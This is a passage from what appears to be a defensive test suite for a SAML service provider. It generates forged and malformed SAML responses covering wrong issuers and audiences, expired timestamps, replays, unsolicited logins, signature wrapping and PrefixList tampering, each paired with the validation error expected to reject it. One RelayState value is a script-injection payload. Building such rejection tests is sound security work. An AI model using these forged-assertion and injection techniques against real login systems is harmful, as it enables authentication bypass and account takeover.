def remove(tag: str) -> Callable[[etree._Element], None]:
    return lambda parent: parent.remove(parent.find(tag))


def duplicate(tag: str) -> Callable[[etree._Element], None]:
    return lambda parent: parent.find(tag).addnext(copy.deepcopy(parent.find(tag)))


def encrypted_assertion(response: etree._Element) -> None:
    encrypted = etree.SubElement(response, qname(SAML, "EncryptedAssertion"))
    etree.SubElement(encrypted, qname("http://www.w3.org/2001/04/xmlenc#", "EncryptedData"))


OTHER_SP = "https://other-sp.example/metadata"
OTHER_ACS = "https://other-sp.example/acs"
OTHER_REQUEST = "_" + "0" * 32
HOLDER_OF_KEY = "urn:oasis:names:tc:SAML:2.0:cm:holder-of-key"


def protocol_vectors() -> list[Vector]:
    def c(*names: str) -> frozenset[str]:
        return frozenset(names)

    return table("protocol", [
        ("wrong_issuer", BOTH, signed(issuer="https://sts.windows.net/00000000-0000-4000-8000-000000000000/"), c("issuer")),
        ("wrong_assertion_issuer_only", BOTH, signed(edit_assertion=set_issuer("https://evil.example/idp")), c("issuer")),
        ("wrong_response_issuer_only", BOTH, signed(edit_response=set_issuer("https://evil.example/idp")), c("issuer")),
        ("missing_destination", BOTH, signed(edit_response=set_attributes(None, Destination=None)), c("destination")),
        ("wrong_destination", BOTH, signed(destination=OTHER_ACS, recipient=ACS), c("destination")),
        ("wrong_recipient", BOTH, signed(recipient=OTHER_ACS), c("recipient")),
        ("missing_recipient", BOTH, signed(edit_assertion=set_attributes(SCD, Recipient=None)), c("recipient")),
        ("audience_of_another_sp", BOTH, signed(audience=OTHER_SP), c("audience")),
        ("second_audience_restriction_for_another_sp", BOTH, signed(edit_assertion=second_audience_restriction), c("audience")),
        ("no_audience_restriction", BOTH, signed(edit_assertion=no_audience_restriction), c("audience")),
        ("unknown_condition", BOTH, signed(edit_assertion=unknown_condition), c("conditions")),
        ("conditions_expired", BOTH, signed(edit_assertion=set_attributes(CONDITIONS, NotOnOrAfter=later(-10))), TIME),
        ("conditions_not_yet_valid", BOTH, signed(edit_assertion=set_attributes(CONDITIONS, NotBefore=later(10))), TIME),
        ("confirmation_expired", BOTH, signed(confirmation_lifetime=timedelta(minutes=-10)), TIME),
        ("confirmation_not_yet_valid", BOTH, signed(edit_assertion=set_attributes(SCD, NotBefore=later(10))), TIME),
        ("confirmation_without_not_on_or_after", BOTH, signed(edit_assertion=set_attributes(SCD, NotOnOrAfter=None)), TIME),
        ("malformed_datetime", BOTH, signed(edit_assertion=set_attributes(CONDITIONS, NotOnOrAfter="tomorrow")), TIME),
        ("datetime_without_time_zone", BOTH, signed(edit_assertion=set_attributes(SCD, NotOnOrAfter=later(5, cut=1))), TIME),
        ("whole_response_from_the_past", BOTH, signed(now=now() - timedelta(hours=3)), TIME),
        ("issued_in_the_future", BOTH, signed(now=now() + timedelta(hours=1)), TIME),
        ("upstream_session_ended", BOTH,
         signed(edit_assertion=set_attributes(AUTHN_STATEMENT, SessionNotOnOrAfter=later(-10))), TIME),
        ("status_requester", BOTH, signed(status="urn:oasis:names:tc:SAML:2.0:status:Requester"), c("status")),
        ("unknown_in_response_to", BOTH, signed(in_response_to=OTHER_REQUEST), IRT),
        ("missing_in_response_to", BOTH, signed(in_response_to=None), IRT),
        ("response_in_response_to_differs", BOTH, signed(edit_response=set_attributes(None, InResponseTo=OTHER_REQUEST)), IRT),
        ("holder_of_key_confirmation", BOTH,
         signed(edit_assertion=set_attributes(f"{SUBJECT}/{CONFIRMATION}", Method=HOLDER_OF_KEY)), c("subject_confirmation")),
        ("two_subject_confirmations", BOTH, signed(edit_assertion=second_confirmation), c("subject_confirmation")),
        ("empty_name_id", BOTH, signed(name_id="  "), c("subject")),
        ("name_id_with_child_element", BOTH, signed(edit_assertion=name_id_child), c("structure")),
        ("no_authn_statement", BOTH, signed(edit_assertion=remove(AUTHN_STATEMENT)), c("authn_statement")),
        ("two_authn_statements", BOTH, signed(edit_assertion=duplicate(AUTHN_STATEMENT)), c("authn_statement")),
        ("encrypted_assertion_beside", BOTH, signed(edit_response=encrypted_assertion), c("assertion")),
        ("response_version_1_1", BOTH, signed(edit_response=set_attributes(None, Version="1.1")), XML),
        ("assertion_version_missing", BOTH, signed(edit_assertion=set_attributes(None, Version=None)), XML),
    ])  # fmt: skip


# --- replay and binding to the pending request ------------------------------------------------------------------


def consume_baseline(h: Harness, pending: Pending, config: str, **changes: object) -> bytes:
    """Log in once, genuinely: the replay vectors need something already used."""
    document = signed_document(h, pending, config, **changes)
    reply = h.post(b64(document), pending.relay_state)
    assert reply.status_code == 200, reply.get_data(as_text=True)[:300]
    return document


def replay_same_relay_state(config: str) -> Make:
    return lambda h, pending: (b64(consume_baseline(h, pending, config)), pending.relay_state)


def replay_in_new_login(config: str) -> Make:
    return lambda h, pending: (b64(consume_baseline(h, pending, config)), h.login().relay_state)


def reissued_assertion_id(config: str) -> Make:
    """The IdP (a replica of it, a cache) issues the same assertion ID again, for a new request."""

    def make(h: Harness, pending: Pending) -> tuple[str, str | None]:
        used = parse(consume_baseline(h, pending, config)).find(ASSERTION).get("ID")
        fresh = h.login()
        return b64(signed_document(h, fresh, config, assertion_id=used)), fresh.relay_state

    return make


def reused_request_id(config: str) -> Make:
    """A new response, genuinely signed, answering a request that was already answered."""

    def make(h: Harness, pending: Pending) -> tuple[str, str | None]:
        consume_baseline(h, pending, config)
        return b64(signed_document(h, pending, config)), h.login().relay_state

    return make


def for_another_pending_login(config: str) -> Make:
    """A response for login A (genuinely signed) posted with login B's RelayState."""
    return lambda h, pending: (b64(signed_document(h, pending, config)), h.login().relay_state)


def signed_assertion_in_new_response(h: Harness, pending: Pending) -> tuple[str, str | None]:
    used = parse(consume_baseline(h, pending, "assertion")).find(ASSERTION)
    fresh = h.login()
    root = parse(signed_document(h, fresh, "assertion"))
    root.replace(root.find(ASSERTION), used)
    return b64(emit(root)), fresh.relay_state


def replay_vectors() -> list[Vector]:
    return table("replay", [
        ("replay_same_response_same_relay_state", BOTH, replay_same_relay_state, frozenset({"expired"})),
        ("replay_same_response_new_login", BOTH, replay_in_new_login, IRT),
        ("reissued_assertion_id", BOTH, reissued_assertion_id, frozenset({"replay"})),
        ("reused_request_id", BOTH, reused_request_id, IRT),
        ("response_for_another_pending_login", BOTH, for_another_pending_login, IRT),
        ("signed_assertion_in_new_response", A, same(signed_assertion_in_new_response), IRT),
        ("unsolicited_when_not_allowed", A, posted_with(signed(in_response_to=None), None), UNSOLICITED),
    ])  # fmt: skip


# --- IdP-initiated (unsolicited) logins, where an upstream allows them ----------------------------------------

ALLOW_UNSOLICITED = (("upstreams__entra__allow_unsolicited", True),)


def unsolicited(
    factory: Callable[..., Factory] = signed, relay_state: str | None = "academy", *args, **changes
):
    """A response no request asked for (a tile in Entra My Apps); RelayState names the portal."""
    return posted_with(factory(*args, **{"in_response_to": None, **changes}), relay_state)


def replayed(factory: Factory) -> Factory:
    def wrapped(config: str) -> Make:
        make = factory(config)

        def replay(h: Harness, pending: Pending) -> tuple[str, str | None]:
            saml_response, relay_state = make(h, pending)
            first = h.post(saml_response, relay_state)
            assert first.status_code == 200, first.get_data(as_text=True)[:300]
            return saml_response, relay_state

        return replay

    return wrapped


def unsolicited_vectors() -> list[Vector]:
    return table("unsolicited", [
        ("unsolicited_replayed", BOTH, replayed(unsolicited()), frozenset({"replay"})),
        ("unsolicited_with_subject_in_response_to", BOTH,
         unsolicited(edit_assertion=set_attributes(SCD, InResponseTo=OTHER_REQUEST)), IRT),
        ("unsolicited_relay_state_names_unknown_portal", BOTH, unsolicited(relay_state="no-such-portal"), UNSOLICITED),
        ("unsolicited_relay_state_with_markup", BOTH, unsolicited(relay_state='"><script>alert(1)</script>'), UNSOLICITED),
        ("unsolicited_without_relay_state_or_default_portal", BOTH, unsolicited(relay_state=None), UNSOLICITED),
        ("unsolicited_issuer_unknown", BOTH, unsolicited(issuer="https://evil.example/idp"), frozenset({"issuer"})),
        ("unsolicited_audience_of_another_sp", BOTH, unsolicited(audience=OTHER_SP), frozenset({"audience"})),
        ("unsolicited_expired", BOTH, unsolicited(now=now() - timedelta(hours=3)), TIME),
        ("unsolicited_unsigned", BOTH, unsolicited(sign="none"), SIG),
        ("unsolicited_key_not_in_metadata", BOTH, unsolicited(signed_with, "academy", "attacker"), SIG),
        ("unsolicited_xsw3", BOTH, unsolicited(edited, "academy", xsw3), WRAPPING),
        ("unsolicited_wrapper", BOTH, unsolicited(edited, "academy", wrapper), WRAPPING),
    ], overrides=ALLOW_UNSOLICITED)  # fmt: skip


# --- the same attacks on Okta-shaped baselines, and attacks on the PrefixList itself -----------------------------

EXC_C14N_NS = "http://www.w3.org/2001/10/xml-exc-c14n#"
INCLUSIVE = f"{{{EXC_C14N_NS}}}InclusiveNamespaces"
C14N_TRANSFORM = f"{REFERENCE}/{TRANSFORMS}/{{{DS}}}Transform[@Algorithm='{EXC_C14N_NS}']"
ENVELOPED_TRANSFORM = f"{REFERENCE}/{TRANSFORMS}/{{{DS}}}Transform[@Algorithm='http://www.w3.org/2000/09/xmldsig#enveloped-signature']"


def prefix_list(value: str | None) -> Callable[[etree._Element], None]:
    """Set (None: remove) the PrefixList of the signed exc-c14n transform; the caller re-signs SignedInfo."""

    def change(signed_info: etree._Element) -> None:
        node = signed_info.find(f"{C14N_TRANSFORM}/{INCLUSIVE}")
        if value is None:
            node.getparent().remove(node)
        else:
            node.set("PrefixList", value)

    return change


def extra_in_transform(make: Callable[[], etree._Element], where: str = C14N_TRANSFORM):
    def change(signed_info: etree._Element) -> None:
        signed_info.find(where).append(make())

    return change


def inclusive_with(**attrs: str) -> Callable[[etree._Element], None]:
    def change(signed_info: etree._Element) -> None:
        node = signed_info.find(f"{C14N_TRANSFORM}/{INCLUSIVE}")
        for name, value in attrs.items():
            node.set(name, value)

    return change


def prefix_list_vectors() -> list[Vector]:
    """Each edit is genuinely signed (SignedInfo re-signed with the IdP's key): only the construct is wrong."""
    moved = lambda: etree.Element(INCLUSIVE, nsmap={"ec": EXC_C14N_NS}, PrefixList="xs")  # noqa: E731
    in_ds_namespace = lambda: etree.Element(qname(DS, "InclusiveNamespaces"), PrefixList="xs")  # noqa: E731
    rows = [
        # The digest was made with PrefixList="xs": another list canonicalises other bytes, so the digest fails.
        ("prefix_list_removed", BOTH, edited(in_signed_info(prefix_list(None))), SIG),
        ("prefix_list_names_another_prefix", BOTH, edited(in_signed_info(prefix_list("xsi"))), SIG),
        ("prefix_list_emptied", BOTH, edited(in_signed_info(prefix_list(""))), SIG),
        ("prefix_list_not_prefixes", BOTH, edited(in_signed_info(prefix_list("xs:string ../x"))), SIG),
        ("prefix_list_with_xpath_beside_it", BOTH, edited(in_signed_info(extra_in_transform(lambda: copy.deepcopy(XPATH)))), SIG),
        ("two_inclusive_namespaces", BOTH, edited(in_signed_info(extra_in_transform(moved))), SIG),
        ("inclusive_namespaces_on_enveloped_transform", BOTH,
         edited(in_signed_info(extra_in_transform(moved, ENVELOPED_TRANSFORM))), SIG),
        ("inclusive_namespaces_in_ds_namespace", A, edited(in_signed_info(extra_in_transform(in_ds_namespace))), SIG),
        ("inclusive_namespaces_with_extra_attribute", BOTH, edited(in_signed_info(inclusive_with(Id="x"))), SIG),
    ]  # fmt: skip
    return [replace(v, shape="okta") for v in table("prefix_list", rows)]


# Families whose vectors do not depend on the byte layout of the Entra shape run again on Okta-shaped baselines.
OKTA_SHAPED_FAMILIES = ("xsw", "wrong_type", "signature", "protocol", "replay", "unsolicited")
# The test IdP signs a PrefixList reference by URI, and signxml will not sign a URI two elements answer to:
# these duplicate-ID baselines cannot be made in the Okta shape (they run in the Entra shape).
SIGNER_REFUSES_WITH_PREFIX_LIST = ("response_and_assertion_share_an_id", "duplicate_id_on_inner_element")


def build_corpus() -> list[Vector]:
    base = [
        *xsw_vectors(),
        *wrong_type_vectors(),
        *signature_vectors(),
        *comment_vectors(),
        *parsing_vectors(),
        *protocol_vectors(),
        *replay_vectors(),
        *unsolicited_vectors(),
    ]
    okta = [
        replace(v, shape="okta")
        for v in base
        if v.family in OKTA_SHAPED_FAMILIES and v.name not in SIGNER_REFUSES_WITH_PREFIX_LIST
    ]
    vectors = [*base, *okta, *prefix_list_vectors()]
    ids = [v.id for v in vectors]
    assert len(ids) == len(set(ids)), "vector names must be unique per configuration"
    return vectors
